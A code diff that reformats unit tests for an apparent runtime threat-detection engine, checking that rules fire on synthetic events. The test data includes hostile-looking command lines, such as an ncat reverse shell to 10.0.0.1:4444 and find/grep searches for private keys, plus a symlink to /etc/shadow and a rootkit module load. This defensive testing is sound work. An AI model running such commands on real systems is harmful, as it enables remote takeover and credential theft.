@@ -11,11 +11,11 @@ namespace {
 
 using ::testing::Contains;
 using ::testing::ElementsAre;
-using ::testing::IsEmpty;
-using ::testing::Not;
 using testing::Ev;
 using testing::FakeLookup;
 using testing::Fired;
+using ::testing::IsEmpty;
+using ::testing::Not;
 
 constexpr int64_t O_RDONLY_ = 0, O_WRONLY_ = 1, O_RDWR_ = 2, O_TRUNC_ = 01000, O_CREAT_ = 0100;
 
@@ -41,7 +41,8 @@ class Builtin : public ::testing::Test {
   static events::Event Rename(const std::string& from, const std::string& to) {
     return Ev("security_inode_rename", {{"old_path", from}, {"new_path", to}});
   }
-  static events::Event Exec(const std::string& path, std::vector<std::string> argv, std::vector<std::string> env = {}) {
+  static events::Event Exec(const std::string& path, std::vector<std::string> argv,
+                            std::vector<std::string> env = {}) {
     events::Event e = Ev("sched_process_exec", {{"pathname", path}, {"argv", argv}, {"env", env}});
     e.executable = path;
     e.comm = path.substr(path.rfind('/') + 1).substr(0, 15);
@@ -51,14 +52,36 @@ class Builtin : public ::testing::Test {
 };
 
 TEST_F(Builtin, AllTraceeNamesExistWithTheirMetadata) {
-  const char* names[] = {"stdio_over_socket", "k8s_api_connection", "aslr_inspection", "proc_mem_code_injection",
-                         "docker_abuse", "scheduled_task_mod", "ld_preload", "cgroup_notify_on_release",
-                         "default_loader_mod", "sudoers_modification", "sched_debug_recon", "system_request_key_mod",
-                         "cgroup_release_agent", "rcd_modification", "core_pattern_modification", "proc_kcore_read",
-                         "proc_mem_access", "hidden_file_created", "anti_debugging", "ptrace_code_injection",
-                         "process_vm_write_inject", "disk_mount", "dynamic_code_loading", "fileless_execution",
-                         "illegitimate_shell", "kernel_module_loading", "k8s_cert_theft", "proc_fops_hooking",
-                         "syscall_hooking", "dropped_executable"};
+  const char* names[] = {"stdio_over_socket",
+                         "k8s_api_connection",
+                         "aslr_inspection",
+                         "proc_mem_code_injection",
+                         "docker_abuse",
+                         "scheduled_task_mod",
+                         "ld_preload",
+                         "cgroup_notify_on_release",
+                         "default_loader_mod",
+                         "sudoers_modification",
+                         "sched_debug_recon",
+                         "system_request_key_mod",
+                         "cgroup_release_agent",
+                         "rcd_modification",
+                         "core_pattern_modification",
+                         "proc_kcore_read",
+                         "proc_mem_access",
+                         "hidden_file_created",
+                         "anti_debugging",
+                         "ptrace_code_injection",
+                         "process_vm_write_inject",
+                         "disk_mount",
+                         "dynamic_code_loading",
+                         "fileless_execution",
+                         "illegitimate_shell",
+                         "kernel_module_loading",
+                         "k8s_cert_theft",
+                         "proc_fops_hooking",
+                         "syscall_hooking",
+                         "dropped_executable"};
   std::set<uint32_t> ids;
   for (const char* n : names) {
     auto it = std::find_if(engine().event_defs().begin(), engine().event_defs().end(),
@@ -157,11 +180,13 @@ TEST_F(Builtin, AslrInspection) {
 TEST_F(Builtin, CgroupNotifyOnRelease) {
   EXPECT_THAT(Run(InContainer(Open("/sys/fs/cgroup/x/notify_on_release", O_WRONLY_))),
               Contains("cgroup_notify_on_release"));
-  EXPECT_THAT(Run(Open("/sys/fs/cgroup/x/notify_on_release", O_WRONLY_)), Not(Contains("cgroup_notify_on_release")));
+  EXPECT_THAT(Run(Open("/sys/fs/cgroup/x/notify_on_release", O_WRONLY_)),
+              Not(Contains("cgroup_notify_on_release")));
 }
 
 TEST_F(Builtin, CgroupReleaseAgent) {
-  EXPECT_THAT(Run(InContainer(Rename("/tmp/x", "/sys/fs/cgroup/rdma/release_agent"))), Contains("cgroup_release_agent"));
+  EXPECT_THAT(Run(InContainer(Rename("/tmp/x", "/sys/fs/cgroup/rdma/release_agent"))),
+              Contains("cgroup_release_agent"));
   EXPECT_THAT(Run(InContainer(Open("/sys/fs/cgroup/rdma/release_agent", O_RDONLY_))),
               Not(Contains("cgroup_release_agent")));
 }
@@ -174,24 +199,31 @@ TEST_F(Builtin, CorePatternModification) {
 }
 
 TEST_F(Builtin, DefaultLoaderMod) {
-  EXPECT_THAT(Run(Open("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", O_RDWR_)), Contains("default_loader_mod"));
+  EXPECT_THAT(Run(Open("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", O_RDWR_)),
+              Contains("default_loader_mod"));
   EXPECT_THAT(Run(Rename("/tmp/ld", "/lib64/ld-linux-x86-64.so.2")), Contains("default_loader_mod"));
-  EXPECT_THAT(Run(Open("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", O_RDONLY_)), Not(Contains("default_loader_mod")));
-  EXPECT_THAT(Run(Open("/usr/lib/x86_64-linux-gnu/libldap.so.2", O_RDWR_)), Not(Contains("default_loader_mod")));
+  EXPECT_THAT(Run(Open("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", O_RDONLY_)),
+              Not(Contains("default_loader_mod")));
+  EXPECT_THAT(Run(Open("/usr/lib/x86_64-linux-gnu/libldap.so.2", O_RDWR_)),
+              Not(Contains("default_loader_mod")));
 }
 
 TEST_F(Builtin, DiskMount) {
-  EXPECT_THAT(Run(InContainer(Ev("mount", {{"dev_name", std::string("/dev/sda1")}, {"dir_name", std::string("/mnt")}}))),
+  EXPECT_THAT(Run(InContainer(
+                  Ev("mount", {{"dev_name", std::string("/dev/sda1")}, {"dir_name", std::string("/mnt")}}))),
               Contains("disk_mount"));
-  EXPECT_THAT(Run(InContainer(Ev("mount", {{"dev_name", std::string("tmpfs")}, {"dir_name", std::string("/mnt")}}))),
-              Not(Contains("disk_mount")));
+  EXPECT_THAT(
+      Run(InContainer(Ev("mount", {{"dev_name", std::string("tmpfs")}, {"dir_name", std::string("/mnt")}}))),
+      Not(Contains("disk_mount")));
 }
 
 TEST_F(Builtin, DockerAbuse) {
-  EXPECT_THAT(Run(InContainer(Ev("security_socket_connect", {{"sockfd", 3}, {"remote_addr", testing::Unix("/var/run/docker.sock")}}))),
+  EXPECT_THAT(Run(InContainer(Ev("security_socket_connect",
+                                 {{"sockfd", 3}, {"remote_addr", testing::Unix("/var/run/docker.sock")}}))),
               Contains("docker_abuse"));
   EXPECT_THAT(Run(InContainer(Open("/run/docker.sock", O_RDWR_))), Contains("docker_abuse"));
-  EXPECT_THAT(Run(Ev("security_socket_connect", {{"sockfd", 3}, {"remote_addr", testing::Unix("/var/run/docker.sock")}})),
+  EXPECT_THAT(Run(Ev("security_socket_connect",
+                     {{"sockfd", 3}, {"remote_addr", testing::Unix("/var/run/docker.sock")}})),
               Not(Contains("docker_abuse")));
 }
 
@@ -201,7 +233,8 @@ TEST_F(Builtin, DroppedExecutable) {
   };
   EXPECT_THAT(Run(InContainer(w("/tmp/payload"))), Contains("dropped_executable"));
   EXPECT_THAT(Run(InContainer(w("/dev/shm/payload"))), Not(Contains("dropped_executable")));
-  EXPECT_THAT(Run(InContainer(Ev("magic_write", {{"pathname", std::string("/tmp/x.sh")}, {"bytes", std::string("23212f62696e")}}))),
+  EXPECT_THAT(Run(InContainer(Ev("magic_write", {{"pathname", std::string("/tmp/x.sh")},
+                                                 {"bytes", std::string("23212f62696e")}}))),
               Not(Contains("dropped_executable")));
 }
 
@@ -219,10 +252,12 @@ TEST_F(Builtin, FilelessExecution) {
 }
 
 TEST_F(Builtin, HiddenFileCreated) {
-  EXPECT_THAT(Run(Ev("magic_write", {{"pathname", std::string("/tmp/.hidden/x")}, {"bytes", std::string("7f454c46")}})),
+  EXPECT_THAT(Run(Ev("magic_write",
+                     {{"pathname", std::string("/tmp/.hidden/x")}, {"bytes", std::string("7f454c46")}})),
               Contains("hidden_file_created"));
-  EXPECT_THAT(Run(Ev("magic_write", {{"pathname", std::string("/tmp/visible")}, {"bytes", std::string("7f454c46")}})),
-              Not(Contains("hidden_file_created")));
+  EXPECT_THAT(
+      Run(Ev("magic_write", {{"pathname", std::string("/tmp/visible")}, {"bytes", std::string("7f454c46")}})),
+      Not(Contains("hidden_file_created")));
 }
 
 TEST_F(Builtin, IllegitimateShell) {
@@ -247,11 +282,14 @@ TEST_F(Builtin, KernelModuleLoading) {
 }
 
 TEST_F(Builtin, K8sApiConnection) {
-  events::Event exec = InContainer(Exec("/usr/bin/curl", {"curl"}, {"KUBERNETES_SERVICE_HOST=10.96.0.1", "HOME=/"}));
+  events::Event exec =
+      InContainer(Exec("/usr/bin/curl", {"curl"}, {"KUBERNETES_SERVICE_HOST=10.96.0.1", "HOME=/"}));
   EXPECT_THAT(Run(exec), Not(Contains("k8s_api_connection")));
-  EXPECT_THAT(Run(InContainer(Ev("security_socket_connect", {{"sockfd", 5}, {"remote_addr", testing::Inet("10.96.0.2", 443)}}))),
+  EXPECT_THAT(Run(InContainer(Ev("security_socket_connect",
+                                 {{"sockfd", 5}, {"remote_addr", testing::Inet("10.96.0.2", 443)}}))),
               Not(Contains("k8s_api_connection")));
-  EXPECT_THAT(Run(InContainer(Ev("security_socket_connect", {{"sockfd", 5}, {"remote_addr", testing::Inet("10.96.0.1", 443)}}))),
+  EXPECT_THAT(Run(InContainer(Ev("security_socket_connect",
+                                 {{"sockfd", 5}, {"remote_addr", testing::Inet("10.96.0.1", 443)}}))),
               Contains("k8s_api_connection"));
 }
 
@@ -264,9 +302,11 @@ TEST_F(Builtin, K8sCertTheft) {
 }
 
 TEST_F(Builtin, LdPreload) {
-  EXPECT_THAT(Run(Exec("/usr/bin/ls", {"ls"}, {"PATH=/bin", "LD_PRELOAD=/tmp/evil.so"})), Contains("ld_preload"));
+  EXPECT_THAT(Run(Exec("/usr/bin/ls", {"ls"}, {"PATH=/bin", "LD_PRELOAD=/tmp/evil.so"})),
+              Contains("ld_preload"));
   EXPECT_THAT(Run(Open("/etc/ld.so.preload", O_WRONLY_ | O_CREAT_)), Contains("ld_preload"));
-  EXPECT_THAT(Run(Exec("/usr/bin/ls", {"ls"}, {"PATH=/bin", "MY_LD_PRELOAD=x"})), Not(Contains("ld_preload")));
+  EXPECT_THAT(Run(Exec("/usr/bin/ls", {"ls"}, {"PATH=/bin", "MY_LD_PRELOAD=x"})),
+              Not(Contains("ld_preload")));
   EXPECT_THAT(Run(Open("/etc/ld.so.preload", O_RDONLY_)), Not(Contains("ld_preload")));
 }
 
@@ -289,13 +329,15 @@ TEST_F(Builtin, ProcessVmWriteInject) {
 
 TEST_F(Builtin, PtraceCodeInjection) {
   EXPECT_THAT(Run(Ev("ptrace", {{"request", 5}, {"pid", 77}})), Contains("ptrace_code_injection"));
-  EXPECT_THAT(Run(Ev("ptrace", {{"request", 2}, {"pid", 77}})), Not(Contains("ptrace_code_injection")));  // PEEKDATA
+  EXPECT_THAT(Run(Ev("ptrace", {{"request", 2}, {"pid", 77}})),
+              Not(Contains("ptrace_code_injection")));  // PEEKDATA
 }
 
 TEST_F(Builtin, RcdModification) {
   EXPECT_THAT(Run(Open("/etc/init.d/evil", O_WRONLY_ | O_CREAT_)), Contains("rcd_modification"));
   EXPECT_THAT(Run(Open("/etc/rc.local", O_WRONLY_)), Contains("rcd_modification"));
-  EXPECT_THAT(Run(Exec("/usr/sbin/update-rc.d", {"update-rc.d", "x", "defaults"})), Contains("rcd_modification"));
+  EXPECT_THAT(Run(Exec("/usr/sbin/update-rc.d", {"update-rc.d", "x", "defaults"})),
+              Contains("rcd_modification"));
   EXPECT_THAT(Run(Open("/etc/init.d/ssh", O_RDONLY_)), Not(Contains("rcd_modification")));
 }
 
@@ -311,7 +353,8 @@ TEST_F(Builtin, ScheduledTaskMod) {
 }
 
 TEST_F(Builtin, StdioOverSocket) {
-  events::Event c = Ev("security_socket_connect", {{"sockfd", 3}, {"remote_addr", testing::Inet("10.0.0.9", 4444)}});
+  events::Event c =
+      Ev("security_socket_connect", {{"sockfd", 3}, {"remote_addr", testing::Inet("10.0.0.9", 4444)}});
   c.host_pid = 777;
   EXPECT_THAT(Run(c), IsEmpty());
   events::Event d = Ev("dup2", {{"oldfd", 3}, {"newfd", 0}});
@@ -336,9 +379,11 @@ TEST_F(Builtin, StdioOverSocket) {
   dup.retval = 1;
   EXPECT_THAT(Run(dup), Contains("stdio_over_socket"));
   // A connect of fd 0 itself fires at once; port 0 never does.
-  events::Event direct = Ev("security_socket_connect", {{"sockfd", 0}, {"remote_addr", testing::Inet("10.0.0.9", 4444)}});
+  events::Event direct =
+      Ev("security_socket_connect", {{"sockfd", 0}, {"remote_addr", testing::Inet("10.0.0.9", 4444)}});
   EXPECT_THAT(Run(direct), Contains("stdio_over_socket"));
-  events::Event zero = Ev("security_socket_connect", {{"sockfd", 0}, {"remote_addr", testing::Inet("10.0.0.9", 0)}});
+  events::Event zero =
+      Ev("security_socket_connect", {{"sockfd", 0}, {"remote_addr", testing::Inet("10.0.0.9", 0)}});
   EXPECT_THAT(Run(zero), Not(Contains("stdio_over_socket")));
 }
 
@@ -350,7 +395,8 @@ TEST_F(Builtin, SudoersModification) {
 
 TEST_F(Builtin, SystemRequestKeyMod) {
   EXPECT_THAT(Run(InContainer(Open("/proc/sysrq-trigger", O_WRONLY_))), Contains("system_request_key_mod"));
-  EXPECT_THAT(Run(InContainer(Open("/proc/sys/kernel/sysrq", O_RDONLY_))), Not(Contains("system_request_key_mod")));
+  EXPECT_THAT(Run(InContainer(Open("/proc/sys/kernel/sysrq", O_RDONLY_))),
+              Not(Contains("system_request_key_mod")));
 }
 
 // ---- host rules
@@ -364,17 +410,20 @@ TEST_F(Builtin, ReadSensitiveFileUntrusted) {
 }
 
 TEST_F(Builtin, SearchPrivateKeys) {
-  EXPECT_THAT(Run(Exec("/usr/bin/find", {"find", "/", "-name", "id_rsa"})), Contains("search_private_keys_or_passwords"));
+  EXPECT_THAT(Run(Exec("/usr/bin/find", {"find", "/", "-name", "id_rsa"})),
+              Contains("search_private_keys_or_passwords"));
   // Renamed binary: the comm says "x", the image is grep.
   events::Event renamed = Exec("/usr/bin/grep", {"x", "-r", "BEGIN RSA PRIVATE KEY", "/home"});
   renamed.comm = "x";
   EXPECT_THAT(Run(renamed), Contains("search_private_keys_or_passwords"));
-  EXPECT_THAT(Run(Exec("/usr/bin/find", {"find", ".", "-name", "*.c"})), Not(Contains("search_private_keys_or_passwords")));
+  EXPECT_THAT(Run(Exec("/usr/bin/find", {"find", ".", "-name", "*.c"})),
+              Not(Contains("search_private_keys_or_passwords")));
 }
 
 TEST_F(Builtin, ClearLogActivities) {
   EXPECT_THAT(Run(Open("/var/log/auth.log", O_WRONLY_ | O_TRUNC_)), Contains("clear_log_activities"));
-  EXPECT_THAT(Run(Open("/var/log/auth.log", O_WRONLY_ | 02000)), Not(Contains("clear_log_activities")));  // O_APPEND
+  EXPECT_THAT(Run(Open("/var/log/auth.log", O_WRONLY_ | 02000)),
+              Not(Contains("clear_log_activities")));  // O_APPEND
 }
 
 TEST_F(Builtin, RemoveBulkData) {
@@ -383,14 +432,18 @@ TEST_F(Builtin, RemoveBulkData) {
 }
 
 TEST_F(Builtin, LinkOverSensitiveFile) {
-  EXPECT_THAT(Run(Ev("symlinkat", {{"oldname", std::string("/etc/shadow")}, {"newname", std::string("/tmp/s")}, {"newdirfd", -100}})),
+  EXPECT_THAT(Run(Ev("symlinkat", {{"oldname", std::string("/etc/shadow")},
+                                   {"newname", std::string("/tmp/s")},
+                                   {"newdirfd", -100}})),
               Contains("link_over_sensitive_file"));
-  EXPECT_THAT(Run(Ev("symlink", {{"oldname", std::string("/etc/hosts")}, {"newname", std::string("/tmp/h")}})),
-              Not(Contains("link_over_sensitive_file")));
+  EXPECT_THAT(
+      Run(Ev("symlink", {{"oldname", std::string("/etc/hosts")}, {"newname", std::string("/tmp/h")}})),
+      Not(Contains("link_over_sensitive_file")));
 }
 
 TEST_F(Builtin, PtraceAttached) {
-  EXPECT_THAT(Run(Ev("ptrace", {{"request", 16}, {"pid", 1}})), Contains("ptrace_attached"));  // PTRACE_ATTACH
+  EXPECT_THAT(Run(Ev("ptrace", {{"request", 16}, {"pid", 1}})),
+              Contains("ptrace_attached"));  // PTRACE_ATTACH
   events::Event failed = Ev("ptrace", {{"request", 16}, {"pid", 1}});
   failed.retval = -1;
   EXPECT_THAT(Run(failed), Not(Contains("ptrace_attached")));
@@ -408,7 +461,8 @@ TEST_F(Builtin, ModifyShellConfigurationFile) {
 }
 
 TEST_F(Builtin, AuthorizedKeysModified) {
-  EXPECT_THAT(Run(Open("/root/.ssh/authorized_keys", O_WRONLY_ | 02000)), Contains("authorized_keys_modified"));
+  EXPECT_THAT(Run(Open("/root/.ssh/authorized_keys", O_WRONLY_ | 02000)),
+              Contains("authorized_keys_modified"));
   EXPECT_THAT(Run(Open("/root/.ssh/authorized_keys", O_RDONLY_)), Not(Contains("authorized_keys_modified")));
 }
 
@@ -422,9 +476,12 @@ TEST_F(Builtin, ShellHistoryDeleted) {
 }
 
 TEST_F(Builtin, SetuidBitSet) {
-  EXPECT_THAT(Run(Ev("fchmodat", {{"pathname", std::string("/tmp/sh")}, {"mode", 04755}})), Contains("setuid_setgid_bit_set"));
-  EXPECT_THAT(Run(Ev("chmod", {{"pathname", std::string("/tmp/sh")}, {"mode", 02755}})), Contains("setuid_setgid_bit_set"));
-  EXPECT_THAT(Run(Ev("chmod", {{"pathname", std::string("/tmp/sh")}, {"mode", 0755}})), Not(Contains("setuid_setgid_bit_set")));
+  EXPECT_THAT(Run(Ev("fchmodat", {{"pathname", std::string("/tmp/sh")}, {"mode", 04755}})),
+              Contains("setuid_setgid_bit_set"));
+  EXPECT_THAT(Run(Ev("chmod", {{"pathname", std::string("/tmp/sh")}, {"mode", 02755}})),
+              Contains("setuid_setgid_bit_set"));
+  EXPECT_THAT(Run(Ev("chmod", {{"pathname", std::string("/tmp/sh")}, {"mode", 0755}})),
+              Not(Contains("setuid_setgid_bit_set")));
 }
 
 TEST_F(Builtin, UserMgmtBinaries) {
@@ -437,30 +494,36 @@ TEST_F(Builtin, UserMgmtBinaries) {
 }
 
 TEST_F(Builtin, SuspiciousNetworkTool) {
-  EXPECT_THAT(Run(Exec("/usr/bin/ncat", {"ncat", "-e", "/bin/sh", "10.0.0.1", "4444"})), Contains("suspicious_network_tool"));
+  EXPECT_THAT(Run(Exec("/usr/bin/ncat", {"ncat", "-e", "/bin/sh", "10.0.0.1", "4444"})),
+              Contains("suspicious_network_tool"));
   EXPECT_THAT(Run(Exec("/usr/bin/curl", {"curl", "example.com"})), Not(Contains("suspicious_network_tool")));
 }
 
 TEST_F(Builtin, BpfProgramUnexpected) {
-  EXPECT_THAT(Run(Ev("bpf_prog_load", {{"prog_type", 1}, {"prog_name", std::string("x")}})), Contains("bpf_program_unexpected"));
+  EXPECT_THAT(Run(Ev("bpf_prog_load", {{"prog_type", 1}, {"prog_name", std::string("x")}})),
+              Contains("bpf_program_unexpected"));
   events::Event bt = Ev("bpf_prog_load", {{"prog_type", 1}, {"prog_name", std::string("x")}});
   bt.comm = "bpftrace";
   EXPECT_THAT(Run(bt), Not(Contains("bpf_program_unexpected")));
 }
 
 TEST_F(Builtin, KernelModuleLoadAttempt) {
-  EXPECT_THAT(Run(Exec("/usr/sbin/insmod", {"insmod", "/tmp/rk.ko"})), Contains("kernel_module_load_attempt"));
-  EXPECT_THAT(Run(Exec("/usr/sbin/modprobe", {"modprobe", "-n", "dummy"})), Not(Contains("kernel_module_load_attempt")));
+  EXPECT_THAT(Run(Exec("/usr/sbin/insmod", {"insmod", "/tmp/rk.ko"})),
+              Contains("kernel_module_load_attempt"));
+  EXPECT_THAT(Run(Exec("/usr/sbin/modprobe", {"modprobe", "-n", "dummy"})),
+              Not(Contains("kernel_module_load_attempt")));
 }
 
 TEST_F(Builtin, GlibcTunables) {
-  EXPECT_THAT(Run(Exec("/usr/bin/su", {"su"}, {"GLIBC_TUNABLES=glibc.tune.x=y"})), Contains("glibc_tunables_env"));
+  EXPECT_THAT(Run(Exec("/usr/bin/su", {"su"}, {"GLIBC_TUNABLES=glibc.tune.x=y"})),
+              Contains("glibc_tunables_env"));
   EXPECT_THAT(Run(Exec("/usr/bin/su", {"su"}, {"HOME=/root"})), Not(Contains("glibc_tunables_env")));
 }
 
 TEST_F(Builtin, PortScan) {
   auto connect = [](uint32_t pid, const std::string& ip, int port, uint64_t t) {
-    events::Event e = Ev("security_socket_connect", {{"sockfd", 3}, {"remote_addr", testing::Inet(ip, port)}});
+    events::Event e =
+        Ev("security_socket_connect", {{"sockfd", 3}, {"remote_addr", testing::Inet(ip, port)}});
     e.host_pid = pid;
     e.timestamp_ns = t;
     return e;
